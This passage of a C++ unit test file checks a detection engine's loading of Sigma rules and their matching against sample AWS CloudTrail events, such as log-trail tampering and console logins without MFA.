  const Rule* c = find_rule(rules, "9a3f0e52-7c41-4d0b-8f2e-1b6d5a9c0e03");
  ASSERT_TRUE(base && c);
  EXPECT_FALSE(base->enabled);
  EXPECT_EQ(c->stateful.kind, detect::StatefulSpec::Kind::kThreshold);
  EXPECT_EQ(c->stateful.threshold, 20u);
}

TEST(SigmaCheckDir, CountsLoadedAndRefusedWithReasons) {
  namespace fs = std::filesystem;
  const std::string dir =
      (fs::path(source_dir()) / "tests" / "unit" / "detect_sigma" / "compat").string();
  detect::SigmaDirReport rep = detect::check_sigma_dir(dir);
  ASSERT_TRUE(rep.error.empty()) << rep.error;
  std::map<std::string, const detect::SigmaFileResult*> by_name;
  for (const auto& f : rep.files) by_name[fs::path(f.path).filename().string()] = &f;
  std::size_t loaded = 0;
  for (const auto& [name, f] : by_name) {
    // Files are named for what they should do: ok_* load, refused_* do not.
    if (name.rfind("ok_", 0) == 0) {
      EXPECT_TRUE(f->loaded) << f->error;
      ++loaded;
    } else {
      EXPECT_FALSE(f->loaded) << name;
      EXPECT_HAS(f->error, name);
      EXPECT_FALSE(f->reason.empty());
      EXPECT_EQ(f->reason.find(name), std::string::npos) << f->reason;  // reason without file
    }
  }
  EXPECT_EQ(rep.loaded, loaded);
  EXPECT_EQ(rep.loaded + rep.refused, rep.files.size());
  EXPECT_GE(rep.files.size(), 6u);
  ASSERT_TRUE(by_name.count("ok_correlation.yml"));
  EXPECT_EQ(by_name["ok_correlation.yml"]->correlations, 1u);
  ASSERT_TRUE(by_name.count("refused_aggregation.yml"));
  EXPECT_HAS(by_name["refused_aggregation.yml"]->reason, "aggregation");
  // Subfolders are walked.
  EXPECT_TRUE(by_name.count("ok_nested.yml"));
  EXPECT_FALSE(detect::check_sigma_dir(dir + "/no-such-dir").error.empty());
}

// ---------------------------------------------------------------------------------------------
// The fixtures under tests/fixtures/sigma/ (original rules written for these tests).

TEST(SigmaFixtures, LoadAndMatch) {
  namespace fs = std::filesystem;
  fs::path dir = fs::path(source_dir()) / "tests" / "fixtures" / "sigma";
  std::map<std::string, std::vector<Rule>> by_file;
  for (const auto& e : fs::directory_iterator(dir)) {
    if (e.path().extension() != ".yml") continue;
    std::vector<Rule> rules;
    std::string err;
    bool ok = detect::load_sigma(read_file(e.path().string()), e.path().filename().string(), &rules,
                                 &err);
    if (e.path().filename().string().rfind("refused_", 0) == 0) {
      EXPECT_FALSE(ok) << e.path();
      EXPECT_HAS(err, e.path().filename().string());
    } else {
      EXPECT_TRUE(ok) << err;
      by_file[e.path().filename().string()] = std::move(rules);
    }
  }
  ASSERT_EQ(by_file.count("trail_tampering.yml"), 1u);
  const Rule& r = by_file["trail_tampering.yml"][0];
  EXPECT_TRUE(matches(
      r,
      R"("eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/mallory"})"));
  EXPECT_FALSE(matches(
      r,
      R"("eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::1:assumed-role/OrgAutomation/x"})"));
  EXPECT_FALSE(matches(
      r,
      R"("eventSource":"cloudtrail.amazonaws.com","eventName":"DescribeTrails","userIdentity":{"type":"IAMUser"})"));
  ASSERT_EQ(by_file.count("console_login_no_mfa.yml"), 1u);
  const Rule& c = by_file["console_login_no_mfa.yml"][0];
  EXPECT_TRUE(matches(
      c,
      R"("eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"},"userIdentity":{"type":"IAMUser"})"));
  EXPECT_FALSE(matches(
      c,
      R"("eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"Yes"},"userIdentity":{"type":"IAMUser"})"));
  EXPECT_EQ(c.index_names, (std::vector<std::string>{"consolelogin"}));
}

// The compatibility exercise: loads every .yml under $SIGMA_COMPAT_DIR and prints a summary
// (run with --gtest_also_run_disabled_tests --gtest_filter='*Compat*').
TEST(SigmaCompat, DISABLED_Directory) {
  const char* d = std::getenv("SIGMA_COMPAT_DIR");
  if (d == nullptr) GTEST_SKIP() << "set SIGMA_COMPAT_DIR";
  namespace fs = std::filesystem;
  std::vector<fs::path> files;
  for (const auto& e : fs::directory_iterator(d)) {
    if (e.path().extension() == ".yml") files.push_back(e.path());
  }
  std::sort(files.begin(), files.end());
  int loaded = 0;
  for (const auto& p : files) {
    std::vector<Rule> rules;
    std::string err;
    if (detect::load_sigma(read_file(p.string()), p.filename().string(), &rules, &err)) {
      ++loaded;
      std::cout << "OK  " << p.filename().string() << " index=" << rules[0].index_names.size()
                << "\n";
    } else {
      std::cout << "ERR " << err << "\n";
    }
  }
  std::cout << "total " << files.size() << " loaded " << loaded << "\n";
}

}  // namespace
}  // namespace sentinel::testing
